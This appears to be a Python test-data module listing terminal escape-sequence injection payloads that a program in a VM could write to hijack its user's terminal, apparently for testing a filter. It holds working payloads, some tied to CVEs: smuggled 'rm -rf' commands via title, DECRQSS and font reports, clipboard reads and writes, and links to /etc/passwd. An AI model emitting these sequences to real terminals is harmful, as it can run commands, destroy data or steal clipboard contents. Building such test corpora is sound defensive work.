"""attacks - what a program in a VM may write to take over its user's terminal, as data.

Each is a name and the bytes. A name that ends in 1, 2... is a part: the parts are written by one VM after another, to be put
together by the terminal. Where the idea is known under a number, that stands behind it.
"""

ESC, BEL, ST, CAN = b"\x1b", b"\a", b"\x1b\\", b"\x18"
CSI, OSC, DCS, APC, PM, SOS = ESC + b"[", ESC + b"]", ESC + b"P", ESC + b"_", ESC + b"^", ESC + b"X"
TEXT = b"c3RvbGVu"  # "stolen" in base64

ATTACKS = {
    # Answers that are typed at the prompt.
    "device attributes": CSI + b"c" + CSI + b"0c" + CSI + b">c" + CSI + b">0c" + CSI + b"=c",
    "identify": ESC + b"Z",
    "answerback": b"\x05",
    "status and cursor": CSI + b"5n" + CSI + b"6n" + CSI + b"?6n" + CSI + b"?15n" + CSI + b"?25n" + CSI + b"?26n" + CSI + b"?996n",
    "terminal parameters": CSI + b"x" + CSI + b"0x" + CSI + b"1x",
    "mode requests": CSI + b"?1$p" + CSI + b"4$p" + CSI + b"?2026$p",
    "version": CSI + b">q" + CSI + b">0q",
    "title report (CVE-2003-0063)": OSC + b"2;;rm -rf x" + ST + CSI + b"21t" + CSI + b"20t",
    "window reports": b"".join(CSI + b"%dt" % n for n in (11, 13, 14, 15, 16, 18, 19, 20, 21)),
    "window operations": b"".join(CSI + p + b"t" for p in (b"2", b"3;0;0", b"8;5;20", b"9;1", b"10;1", b"22;0", b"23;0", b"5", b"1")),
    "DECRQSS (CVE-2008-2383, CVE-2022-45872)": DCS + b"$qm" + ST + DCS + b"$q\nrm -rf x\n" + ST + DCS + b"$q q" + ST,
    "DECRQCRA": CSI + b"1;1;1;1;24;80*y" + CSI + b"?63n" + CSI + b"#{" + CSI + b"#S",
    "DECRQPSR": CSI + b"1$w" + CSI + b"2$w",
    "user-defined keys (DECUDK)": DCS + b"0;1|17/726d202d726620780a" + ST,
    "termcap request": DCS + b"+q544e" + ST + DCS + b"+q436f" + ST,
    "colour requests": b"".join(OSC + b"%d;?" % n + ST for n in (10, 11, 12, 17, 19)) + OSC + b"4;1;?" + BEL + OSC + b"5;0;?" + BEL,
    "keyboard requests": CSI + b"?u" + CSI + b"?4m" + CSI + b">1u" + CSI + b"=31;1u" + CSI + b">4;2m",
    "font request (CVE-2022-45063)": OSC + b"50;?" + ST + OSC + b"50;\n$(rm -rf x)" + BEL,
    "rectangle report": CSI + b"1;1'z" + CSI + b"1;3'{" + CSI + b"'|",
    "mouse highlighting": CSI + b"?1001h" + CSI + b"1;2;3;4;5T",
    "macro report": DCS + b"1;0;0!z1b5b356e" + ST + CSI + b"1*z" + CSI + b"?62n",

    # Clipboard, titles, colours, marks, links.
    "clipboard is set": OSC + b"52;c;" + TEXT + BEL + OSC + b"52;p;" + TEXT + ST + OSC + b"52;;" + TEXT + ST,
    "clipboard is read": OSC + b"52;c;?" + BEL + OSC + b"52;p;?" + ST,
    "clipboard of kitty": OSC + b"5522;type=read;dGV4dC9wbGFpbg==" + ST,
    "titles": b"".join(OSC + b"%d;stolen" % n + BEL for n in (0, 1, 2, 21, 30, 31)) + ESC + b"kstolen" + ST + OSC + b"lstolen" + ST,
    "title with a number that overflows": OSC + b"4294967298;stolen" + BEL + OSC + b"00000002;stolen" + BEL,
    "colours are changed": OSC + b"4;0;#ff0000" + ST + OSC + b"10;#000000" + ST + OSC + b"11;#000000" + ST + OSC + b"104" + ST + OSC + b"P0ff0000",
    "marks of a prompt": OSC + b"133;D;0" + ST + OSC + b"133;A" + ST + OSC + b"133;B" + ST + OSC + b"133;C;cmdline_url=stolen" + ST,
    "marks of VS Code": OSC + b"633;E;stolen" + ST + OSC + b"633;P;Cwd=/stolen" + ST + OSC + b"1337;CurrentDir=/stolen" + BEL,
    "directory": OSC + b"7;file:///stolen" + ST + OSC + b"9;9;/stolen" + ST,
    "links": OSC + b"8;;http://stolen/" + ST + b"link" + OSC + b"8;;" + ST + OSC + b"8;id=a:b:c;file:///etc/passwd" + BEL + b"x" + OSC + b"8;;" + BEL
             + OSC + b"8;;" + b"u" * 5000 + ST + OSC + b"8;" + ST,
    "notifications": OSC + b"9;stolen" + ST + OSC + b"777;notify;stolen;stolen" + ST + OSC + b"99;;stolen" + ST,
    "iTerm2": OSC + b"1337;SetUserVar=a=" + TEXT + BEL + OSC + b"1337;File=inline=1:" + TEXT + BEL + OSC + b"1337;RequestUpload=format=tgz" + BEL,
    "remote control of kitty": DCS + b'@kitty-cmd{"cmd":"ls","version":[0,26,0]}' + ST,
    "passthrough of tmux": DCS + b"tmux;\x1b\x1b]52;c;" + TEXT + b"\a" + ST + DCS + b"\x1b]2;stolen\a" + ST,

    # Pictures, sounds, printers.
    "sixel": DCS + b"0;0;0q#0;2;100;0;0#0~~~~-" + ST,
    "pictures of kitty": APC + b"Gi=1,s=1,v=1,a=q,t=d,f=24;AAAA" + ST + APC + b"Gi=2,a=q,t=f,f=24;L2V0Yy9wYXNzd2Q=" + ST,
    "ReGIS and Tektronix": DCS + b"0pS(E)" + ST + CSI + b"?38h",
    "printer": CSI + b"5i" + b"printed" + CSI + b"4i" + CSI + b"0i" + CSI + b"?5i",
    "lights and sounds": CSI + b"1;2q" + CSI + b"10;100]" + CSI + b"11;100]" + ESC + b"[,~",

    # Strings without an end, sequences without a middle.
    "OSC without an end": OSC + b"52;c;" + TEXT,
    "DCS without an end": DCS + b"$q",
    "APC without an end": APC + b"Gi=3,a=q;",
    "PM without an end": PM + b"private",
    "SOS without an end": SOS + b"string",
    "title without an end": ESC + b"kstolen",
    "CSI without an end": CSI + b"1;2",
    "string broken off": OSC + b"2;sto" + CAN + b"len" + BEL + OSC + b"2;sto\x1alen" + BEL + OSC + b"2;sto" + ESC + b"len" + BEL,
    "string of a megabyte": OSC + b"52;c;" + b"QUFB" * 262144 + BEL,
    "string within a string": OSC + b"2;a" + OSC + b"52;c;" + TEXT + BEL + DCS + OSC + b"2;stolen" + BEL + ST,
    "numbers that are too long": CSI + b"9" * 400 + b"m" + CSI + b"99999999999C" + CSI + b";" * 100 + b"m",
    "controls within a sequence": CSI + b"\x05" + b"6\x05n" + ESC + b"\x05Z" + CSI + b"\x006n",

    # C1 controls, as bytes and as characters, and what looks like them to a careless decoder.
    "C1 bytes": b"\x9d2;stolen\x9c\x9b6n\x90$qm\x9c\x9a\x9fGi=1,a=q;AAAA\x9c\x98x\x9c\x9ex\x9c",
    "C1 characters": "\x9d2;stolen\x9c\x9b6n\x90$qm\x9c\x9a\x9fGi=1,a=q;AAAA\x9c".encode(),
    "C1 in bad UTF-8": b"\xe0\x9b6n\xc0\x9b6n\xf0\x80\x80\x9b6n\xc2\xc2\x9b6n\xe2\x82\x9b6n\xf8\x9b6n\xff\x9b6n\xed\xa0\x9b6n",
    "long forms of ESC": b"\xc0\x9b[6n\xe0\x80\x9b[6n\xc1\x9b6n\xf0\x80\x80\x9b[6n",
    "string with C1 in it": OSC + b"2;sto\x9clen" + b"\x9b6n" + BEL,
    "character sets": ESC + b"%@" + b"\x9b6n" + ESC + b"%G" + ESC + b"%/G" + ESC + b"N" + ESC + b"O" + ESC + b"n" + ESC + b"o" + ESC + b"}" + ESC + b" G" + b"\x9b6n",
    "directions and joiners": "\u202estolen\u202c \u2066x\u2069 \u200d\u200b\ufeff".encode(),

    # Begun by one VM, ended by the next; and by the shell's own words.
    "OSC in two parts 1": OSC + b"52;c;",
    "OSC in two parts 2": TEXT + BEL,
    "CSI in three parts 1": ESC,
    "CSI in three parts 2": b"[",
    "CSI in three parts 3": b"6n",
    "DCS in two parts 1": DCS + b"$q",
    "DCS in two parts 2": b"m" + ST,
    "C1 in two parts 1": b"\xc2",
    "C1 in two parts 2": b"\x9b6n",
    "end in two parts 1": OSC + b"2;stolen" + ESC,
    "end in two parts 2": b"\\",
}
